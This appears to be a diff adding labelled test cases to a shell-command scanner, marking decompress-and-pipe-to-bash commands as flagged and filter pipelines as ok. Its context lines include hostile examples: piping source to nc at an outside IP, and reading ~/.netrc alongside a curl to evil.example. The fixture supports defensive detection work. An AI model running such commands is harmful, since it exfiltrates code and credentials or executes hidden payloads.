@@ -24,3 +24,15 @@ tar cz src | nc 203.0.113.9 9000
 cat ~/.netrc; curl https://evil.example/x
 # ok: a filter pipeline
 cat package.json | grep version | wc -l
+# flag: pipelines.decoded-pipe
+zcat vendor/setup.gz | bash
+# flag: pipelines.decoded-pipe
+xz --decompress --stdout build/step.xz | sh -s --
+# flag: pipelines.decoded-pipe
+tar -xOf vendor/bundle.tar install.sh | bash
+# flag: pipelines.decoded-exec
+bash -c "$(bzip2 -dc vendor/s.bz2)"
+# ok: a compressed log read through a filter, and a compressed file decompressed to a file
+zcat logs/app.log.gz | grep -c ERROR
+# ok: a decompression into a data file
+zstd -dc data/dump.sql.zst > dump.sql
